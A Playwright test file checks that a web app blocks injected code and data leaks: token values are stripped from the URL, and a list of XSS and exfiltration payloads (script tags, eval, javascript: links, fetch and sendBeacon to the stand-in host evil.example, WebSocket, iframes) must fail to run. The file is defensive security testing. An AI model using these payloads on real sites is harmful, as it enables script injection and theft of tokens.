import { expect, test } from './fixtures.ts'

const EVIL = '"https://evil.example/?token=1"'
const add = (tag: string, property: string, value = EVIL) =>
  `document.body.append(Object.assign(document.createElement("${tag}"), { ${property}: ${value} }))`

/** Ways to run code or to send data elsewhere that an injected text could try. */
const ATTACKS = [
  add('script', 'text', '"window.broken = 1"'),
  add('script', 'src'),
  'eval("window.broken = 1")',
  'new Function("window.broken = 1")()',
  `document.createElement("div").innerHTML = "<img src='x:' onerror='window.broken = 1'>"`,
  `${add('a', 'href', '"javascript:window.broken = 1"')}; document.body.lastChild.click()`,
  add('iframe', 'src'),
  add('object', 'data'),
  `${add('form', 'action')}; document.body.lastChild.submit()`,
  `${add('base', 'href')}; if (document.baseURI.includes("evil")) window.broken = 1`,
  `await fetch(${EVIL}, { mode: "no-cors" })`,
  `navigator.sendBeacon(${EVIL}, "token")`,
  'new WebSocket("wss://evil.example/")',
  `new Worker(URL.createObjectURL(new Blob(['fetch(${EVIL})'])))`,
  add('style', 'textContent', `'@import ${EVIL};'`),
]

test('§6: no injected code runs, no data leaves, no page frames the app', async ({ page }) => {
  const requests: string[] = []
  page.on('request', request => requests.push(request.url()))
  await page.goto('market?q=BTC&token=s3cret&next=%2Fhome%3Ftoken%3Ds3cret#token=s3cret')
  await expect(page).toHaveURL(/\/market\?q=BTC&next=%2Fhome$/)
  await expect(page.getByRole('row').filter({ hasText: 'BTC' })).toBeVisible()
  expect(requests.slice(1).filter(url => url.includes('s3cret'))).toEqual([])
  // The violations are what the rest is about.
  for (const event of ['console', 'pageerror'] as const) page.removeAllListeners(event)
  for (const attack of [...ATTACKS, add('iframe', 'src', '"/h4/home"')]) {
    // In a task of the page: developer tools may use eval.
    const task = `setTimeout(async () => {
      try { ${attack} } catch {}
      requestAnimationFrame(() => requestAnimationFrame(() => done([window.broken, location.pathname])))
    })`
    const found = await page.evaluate(`new Promise(done => ${task})`)
    expect.soft(found, attack).toEqual([undefined, '/h4/market'])
  }
  expect(requests.filter(url => url.includes('evil.example'))).toEqual([])
  await expect.poll(() => page.frames().at(-1)?.url()).toContain('chrome-error:')
})
